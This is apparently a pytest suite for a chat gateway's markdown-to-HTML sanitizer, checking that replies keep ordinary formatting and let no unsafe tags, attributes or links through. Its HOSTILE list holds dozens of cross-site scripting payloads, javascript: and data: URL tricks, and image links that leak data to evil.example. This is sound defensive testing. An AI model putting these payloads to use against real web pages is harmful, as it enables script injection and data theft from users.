"""Replies as HTML: what is kept, what is shown as text, what can never come through."""

from html.parser import HTMLParser

import pytest

from databot.gateway.markdown import MAX_CHARS, TAGS, render, to_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>@import 'https://evil.example'</style>",
    "<base href='https://evil.example/'>",
    "<form action='https://evil.example'><input name=q></form>",
    "<math><mtext></mtext><script>alert(1)</script></math>",
    "<details open ontoggle=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&#x3A;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/path)",
    "[x](/api/v1/sessions)",
    "[x](blob:https://a/b)",
    "<javascript:alert(1)>",
    '<https://a.example/" onmouseover=alert(1) x=">',
    '[x](https://a.example "title\\" onmouseover=alert(1) x=\\"")',
    "![x](https://evil.example/leak.png?d=secret)",
    "![x](data:image/png;base64,AAAA)",
    "![`<img src=x onerror=alert(1)>`](x)",
    "![x][r]\n\n[r]: https://evil.example/leak.png",
    "[![x](https://evil.example/i.png)](https://evil.example)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    '```"><script>alert(1)</script>\nx\n```',
    "```js onload=alert(1)\nx\n```",
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <img src=x onerror=alert(1)>",
    "> <svg onload=alert(1)>",
    "1. <img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
    "<scr\x00ipt>alert(1)</script>",
    '<a href="https://a.example" style="position:fixed" class="host" id="x">x</a>',
    "[x](https://good.example@evil.example)",
    "[https://bank.example](https://evil.example)",
    "[x](https://evil.example/\u202egnp.exe)",
    "<a name=x id=composer>",
    "~~<script>alert(1)</script>~~",
    "**<b onclick=alert(1)>**",
]
ATTRIBUTES = {
    "a": {"href", "title", "rel", "target"},
    "ol": {"start"},
    "th": {"class"},
    "td": {"class"},
    "span": {"class"},
    "div": {"class"},
}


class Inspector(HTMLParser):
    """Reads HTML as a browser would and keeps every tag with its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attrs)))


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_comes_through(text: str) -> None:
    for surrounded in (text, f"before {text} after", f"- {text}\n- x", f"| a |\n|---|\n| {text} |"):
        for tag, attributes in Inspector(render(surrounded)).seen:
            assert tag in TAGS
            assert set(attributes) <= ATTRIBUTES.get(tag, set()), (tag, attributes)
            href = attributes.get("href")
            assert href is None or href.startswith(("http://", "https://", "mailto:")), href


def test_the_usual_markdown_is_kept() -> None:
    html = render(
        "# T\n\n**b** *i* ~~s~~ `c`\n\n- x\n\n1. y\n\n> q\n\n```sql\nselect 1\n```\n\n---"
    )
    for tag in ("h1", "strong", "em", "s", "code", "ul", "ol", "li", "blockquote", "pre", "hr"):
        assert f"<{tag}" in html, tag


def test_numbers_stand_to_the_right_without_inline_styles() -> None:
    html = render("| a | n |\n|---|--:|\n| x | 1 |")
    assert '<td class="right">1</td>' in html
    assert "style" not in html
    assert html.startswith('<div class="table"><table>')


def test_a_link_names_where_it_goes_and_gives_nothing_away() -> None:
    html = render("[our bank](https://evil.example/x)")
    assert 'href="https://evil.example/x"' in html
    assert 'rel="noopener noreferrer nofollow"' in html
    assert 'target="_blank"' in html
    assert '<span class="host">(evil.example)</span>' in html


def test_a_link_whose_text_is_its_address_is_not_named_twice() -> None:
    assert "host" not in render("<https://a.example/x>")


def test_the_user_part_of_an_address_cannot_pretend_to_be_the_host() -> None:
    assert "(evil.example)" in render("[x](https://good.example@evil.example)")


def test_an_image_is_its_alt_text_and_loads_nothing() -> None:
    html = render("![sales](https://evil.example/leak.png)")
    assert '<span class="no-image">[image: sales]</span>' in html
    assert "evil.example" not in html


def test_a_text_too_long_to_render_is_shown_as_it_is() -> None:
    html = render("<b>" + "x" * MAX_CHARS)
    assert html.startswith("<pre>&lt;b&gt;x")


@pytest.mark.parametrize(
    "text",
    [
        "*" * 50_000,
        "[" * 50_000,
        "> " * 20_000,
        "`" * 50_000,
        "|" * 50_000,
        "<" * 50_000,
        "![](" * 20_000,
    ],
)
async def test_pathological_text_is_rendered_in_bounded_time(text: str) -> None:
    assert isinstance(await to_html(text), str)
